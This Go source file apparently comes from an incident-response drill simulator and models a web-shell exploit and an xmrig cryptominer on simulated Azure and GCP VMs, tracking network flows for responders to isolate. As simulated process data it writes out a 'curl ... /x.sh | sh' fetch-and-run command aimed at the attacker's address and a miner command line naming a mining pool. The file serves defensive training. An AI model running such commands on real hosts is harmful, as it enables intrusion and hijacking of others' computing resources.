package attacker

import (
	"context"
	"fmt"
	"strconv"
	"time"

	"github.com/firedrill-ir/firedrill/cloudsim/world"
)

// On-host techniques for Azure and GCP VMs. They are the same attack as on
// EC2 (a web-shell session in, a miner out), played through each cloud's own
// flow model: an Azure NSG keeps a flow until connections are flushed, a GCP
// firewall keeps it until the external access config is churned. That is
// what makes a naive isolation visible in the drill.

// Cloud names as events and techniques spell them.
const (
	CloudAWS   = "aws"
	CloudAzure = "azure"
	CloudGCP   = "gcp"
)

// CloudOf tells which cloud a world resource id belongs to: ARM ids start
// with /subscriptions/, GCP resource paths with projects/, everything else
// is AWS. The world keeps all three clouds' VMs, disks and flows in one
// model, so the drill tells them apart by id.
func CloudOf(id string) string {
	switch {
	case len(id) >= 15 && id[:15] == "/subscriptions/":
		return CloudAzure
	case len(id) >= 9 && id[:9] == "projects/":
		return CloudGCP
	}
	return CloudAWS
}

// foothold returns the attacker's holdings in an Azure or GCP cloud.
func (e *Env) foothold(cloud string) *CloudFoothold {
	if cloud == CloudAzure {
		return &e.State.Azure
	}
	return &e.State.GCP
}

// openFlowLocked opens a connection on an Azure or GCP VM through that
// cloud's flow model.
func openFlowLocked(w *world.World, cloud, vm string, spec world.FlowSpec) (*world.Flow, error) {
	if cloud == CloudAzure {
		return w.OpenAzureFlowLocked(vm, spec)
	}
	return w.GCEOpenFlowLocked(vm, spec)
}

// pickCloudTargetLocked chooses the attacked VM of a scale set (Azure) or
// managed instance group (GCP): "newest", "oldest" or a VM id. Both clouds
// remove the newest member first on scale-in (Azure's default policy
// deletes the highest instance id, a MIG the last-created member), so
// "newest" is the VM whose evidence the scaling race is about.
func (e *Env) pickCloudTargetLocked(cloud, group, target string) (string, error) {
	w := e.World
	var members []string // oldest first
	switch cloud {
	case CloudAzure:
		if e.Azure == nil {
			return "", fmt.Errorf("the scenario has no Azure environment")
		}
		ss := w.AzureScaleSetLocked(world.AzureResourceID(e.Azure.Subscription, e.Azure.ResourceGroup,
			"Microsoft.Compute", "virtualMachineScaleSets", group))
		if ss == nil {
			return "", fmt.Errorf("scale set %q does not exist", group)
		}
		cands := w.AzureScaleInCandidatesLocked(ss) // scale-in order: newest first
		for i := len(cands) - 1; i >= 0; i-- {
			members = append(members, cands[i].ID)
		}
	default:
		if e.GCP == nil {
			return "", fmt.Errorf("the scenario has no GCP environment")
		}
		m := w.GCPLocked().MIGs[world.GCEMIGKey(e.GCP.Project, e.GCP.Zone, group, false)]
		if m == nil {
			return "", fmt.Errorf("managed instance group %q does not exist", group)
		}
		members = append(members, m.Members...)
	}
	switch target {
	case "oldest", "newest":
		if len(members) == 0 {
			return "", fmt.Errorf("group %q has no running member", group)
		}
		if target == "oldest" {
			return members[0], nil
		}
		return members[len(members)-1], nil
	}
	if _, ok := w.Instances[target]; !ok || CloudOf(target) != cloud {
		return "", fmt.Errorf("%s VM %q does not exist", cloud, target)
	}
	return target, nil
}

// exploitVM gains code execution on a scale-set or MIG VM through its
// public web service, leaving an interactive web-shell session (an inbound
// connection the responder's isolation must cut).
func exploitVM(cloud, id, groupDefault string) *Technique {
	return &Technique{
		ID: id, ATTACK: "T1190", Name: "Exploit Public-Facing Application", Cloud: cloud,
		Params: []ParamSpec{
			{Name: "group", Kind: KindString, Default: groupDefault, Doc: "scale set (Azure) or managed instance group (GCP) whose VM is attacked"},
			{Name: "target", Kind: KindString, Default: "newest",
				Doc: "newest (first scale-in candidate), oldest, or a VM id"},
			{Name: "port", Kind: KindInt, Default: "443", Doc: "the exposed service port"},
			{Name: "vulnerability", Kind: KindString, Default: "CVE-2023-46604", Doc: "what is exploited, for the record"},
		},
		Run: func(ctx context.Context, env *Env, p Params) error {
			w := env.World
			w.LockAs(hostCaller)
			vm, err := env.pickCloudTargetLocked(cloud, p.String("group"), p.String("target"))
			if err == nil {
				_, err = openFlowLocked(w, cloud, vm, world.FlowSpec{Direction: "ingress", Protocol: "tcp",
					LocalPort: p.Int("port"), RemoteIP: env.SourceIP, Actor: attackerFlowName})
			}
			if err == nil {
				inst := w.Instances[vm]
				inst.Processes = append(inst.Processes, world.Process{PID: 31337, User: "app",
					Command: "/bin/sh -c curl -s http://" + env.SourceIP + "/x.sh | sh", CPU: 0.2})
				env.foothold(cloud).VM = vm
			}
			w.Unlock()
			return env.Record(Action{Technique: id, Operation: "http:exploit", Resource: vm, Cloud: cloud, Credential: "none",
				Detail: map[string]string{"port": p.String("port"), "vulnerability": p.String("vulnerability")}}, err)
		},
	}
}

// cryptoMinerVM starts xmrig on the foothold: CPU pinned near 100% and a
// stateful outbound stratum connection to a pool domain, the signals the
// cloud's CPU alert and its threat detector key on.
func cryptoMinerVM(cloud, id string) *Technique {
	return &Technique{
		ID: id, ATTACK: "T1496", Name: "Resource Hijacking (cryptominer)", Cloud: cloud,
		Params: []ParamSpec{
			{Name: "pool_domain", Kind: KindString, Default: "pool.minexmr.com"},
			{Name: "pool_ip", Kind: KindString, Default: "192.0.2.77"},
			{Name: "pool_port", Kind: KindInt, Default: "4444"},
			{Name: "cpu", Kind: KindInt, Default: "99", Doc: "CPU utilisation the miner drives, percent"},
			{Name: "process", Kind: KindString, Default: "xmrig"},
		},
		Run: func(ctx context.Context, env *Env, p Params) error {
			fh := env.foothold(cloud)
			fh.Pool = PoolTarget{Domain: p.String("pool_domain"), IP: p.String("pool_ip"), Port: p.Int("pool_port")}
			w := env.World
			w.LockAs(hostCaller)
			inst, ok := w.Instances[fh.VM]
			var err error
			switch {
			case fh.VM == "" || !ok:
				err = fmt.Errorf("no foothold: the exploit step did not succeed")
			case inst.State != world.StateRunning:
				err = fmt.Errorf("foothold %s is %s", fh.VM, inst.State)
			default:
				inst.Processes = append(inst.Processes, world.Process{PID: 31415, User: "app",
					Command: fmt.Sprintf("/tmp/.cache/%s -o %s:%d --donate-level 0 -k", p.String("process"),
						fh.Pool.Domain, fh.Pool.Port), CPU: float64(p.Int("cpu"))})
				w.SetCPULocked(inst, w.Now(), float64(p.Int("cpu")))
				var f *world.Flow
				f, err = openFlowLocked(w, cloud, fh.VM, poolSpec(fh.Pool))
				if err == nil {
					fh.PoolFlow = f.ID
				}
			}
			w.Unlock()
			return env.Record(Action{Technique: id, Operation: "pool:connect", Resource: fh.VM, Cloud: cloud, Credential: "host",
				Detail: map[string]string{"pool": fmt.Sprintf("%s:%d", fh.Pool.Domain, fh.Pool.Port),
					"process": p.String("process")}}, err)
		},
	}
}

func poolSpec(pool PoolTarget) world.FlowSpec {
	return world.FlowSpec{Direction: "egress", Protocol: "tcp", RemoteIP: pool.IP,
		RemotePort: pool.Port, Domain: pool.Domain, Actor: attackerFlowName}
}

// probeCloudPool checks the miner's pool connection on an Azure or GCP
// foothold: still up, or can a new one be opened through whatever network
// rules now apply.
func (e *Env) probeCloudPool(cloud, technique string) {
	fh := e.foothold(cloud)
	if fh.Pool.IP == "" || fh.VM == "" {
		return
	}
	w := e.World
	w.LockAs(hostCaller)
	up := false
	for _, f := range w.ActiveFlowsLocked(fh.VM) {
		if f.ID == fh.PoolFlow {
			up = true
		}
	}
	op := "pool:keepalive"
	var err error
	if !up {
		op = "pool:reconnect"
		var f *world.Flow
		f, err = openFlowLocked(w, cloud, fh.VM, poolSpec(fh.Pool))
		if err == nil {
			fh.PoolFlow = f.ID
		}
	}
	flow := fh.PoolFlow
	w.Unlock()
	_ = e.Record(Action{Technique: technique, Operation: op, Resource: fh.VM, Cloud: cloud, Credential: "host",
		Detail: map[string]string{"flow": flow, "pool": fh.Pool.Domain + ":" + strconv.Itoa(fh.Pool.Port)}}, err)
}

// hasLiveChannel reports whether any attacker connection on the foothold is
// still up: with one, code on the VM can still hand the attacker fresh
// metadata-service tokens.
func (e *Env) hasLiveChannel(vm string) bool {
	w := e.World
	w.LockAs(hostCaller)
	defer w.Unlock()
	for _, f := range w.ActiveFlowsLocked(vm) {
		if f.Actor == attackerFlowName {
			return true
		}
	}
	return false
}

// ActiveFlowsIn counts the attacker's connections still up in one cloud.
func (e *Env) ActiveFlowsIn(cloud string) (n int, ids []string) {
	w := e.World
	w.LockAs(hostCaller)
	defer w.Unlock()
	for _, f := range w.Flows {
		if f.Actor == attackerFlowName && f.Active() && CloudOf(f.Instance) == cloud {
			n++
			ids = append(ids, f.ID)
		}
	}
	return n, ids
}

// keepAccessLoop runs probe every `every` until the drill ends.
func keepAccessLoop(ctx context.Context, env *Env, every time.Duration, probe func()) error {
	if every <= 0 {
		return fmt.Errorf("keep-access: every must be positive")
	}
	for {
		probe()
		if env.End.IsZero() || !env.Clock.Now().Add(every).Before(env.End) {
			return nil
		}
		if err := env.Clock.Sleep(ctx, every); err != nil {
			return fmt.Errorf("keep-access: waiting for the next round: %w", err)
		}
	}
}
